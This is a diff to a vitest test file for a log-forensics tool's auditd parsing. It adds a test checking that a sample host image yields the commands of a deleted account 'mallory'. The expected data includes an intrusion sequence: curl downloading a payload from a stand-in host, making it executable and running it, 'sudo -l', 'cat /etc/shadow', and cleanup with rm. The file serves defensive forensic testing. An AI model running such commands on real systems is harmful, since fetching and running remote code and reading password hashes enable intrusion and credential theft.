@@ -1,7 +1,15 @@
 // The audit functions on targets: which files (rotations oldest first, auditd.conf's log_file), in which order,
 // and what bad input gives (warnings naming the file, line and offset; an error for a file that is no log).
+import fs from "node:fs";
+import path from "node:path";
 import { gzipSync } from "node:zlib";
 import { describe, expect, it } from "vitest";
+import { defaultRegistry } from "../../../../../../plugins/index.js";
+import { runOnTarget } from "../../../../../../src/plugin/runner.js";
+import type { AnyRecord } from "../../../../../../src/records/descriptor.js";
+import { Target } from "../../../../../../src/target.js";
+import { silentLogger } from "../../../../../../src/util/log.js";
+import { tmpdir } from "../../../../../helpers/tmp.js";
 import { logFileOf } from "../../../../../../plugins/os/unix/log/audit/config.js";
 import { file } from "../../../../../../src/fs/memory.js";
 import { recordProblems } from "../../../../../../src/records/validate.js";
@@ -107,5 +115,37 @@ describe("bad input", () => {
     expect(fromGz.length).toBeLessThan(2000);
     expect(r.records.at(-1)!.audit_id).toBe(9999);
     expect(r.warnings.some((w) => w.file === "/var/log/audit/audit.log.1.gz" && /damaged|truncat/i.test(w.message))).toBe(true);
+  });
+});
+
+describe("the sample host web01 (tar and tar.gz)", () => {
+  const tarPath = path.resolve(import.meta.dirname, "../../../../../../fixtures/hosts/web01.tar");
+
+  async function eventsOf(p: string): Promise<AnyRecord[]> {
+    const t = await Target.open(p);
+    const records: AnyRecord[] = [];
+    const sink = { write: (r: AnyRecord) => void records.push(r), close: async () => {} };
+    await runOnTarget(t, defaultRegistry.resolve("audit.events").groups, defaultRegistry, sink, { log: silentLogger });
+    t.close();
+    return records;
+  }
+
+  it("mallory's commands, named by the log though her account is gone from /etc/passwd, the same from the tar and the tar.gz", async () => {
+    const dir = tmpdir();
+    const gz = path.join(dir, "web01.tar.gz");
+    fs.writeFileSync(gz, gzipSync(fs.readFileSync(tarPath)));
+    for (const p of [tarPath, gz]) {
+      const ran = (await eventsOf(p)).filter((e) => e.auid_name === "mallory" && (e.argv as string[]).length > 0);
+      expect(ran.map((e) => (e.argv as string[]).join(" "))).toEqual([
+        "id",
+        "curl -s -o /tmp/.x http://192.0.2.66:4553/x",
+        "chmod +x /tmp/.x",
+        "/tmp/.x -c \x1b[8mhidden",
+        "sudo -l",
+        "cat /etc/shadow",
+        "rm -f /tmp/.x",
+      ]);
+      expect(ran.every((e) => e.filepath === "/var/log/audit/audit.log.1" && e.auid === 1200 && e.ses === ran[0]!.ses)).toBe(true);
+    }
   });
 });
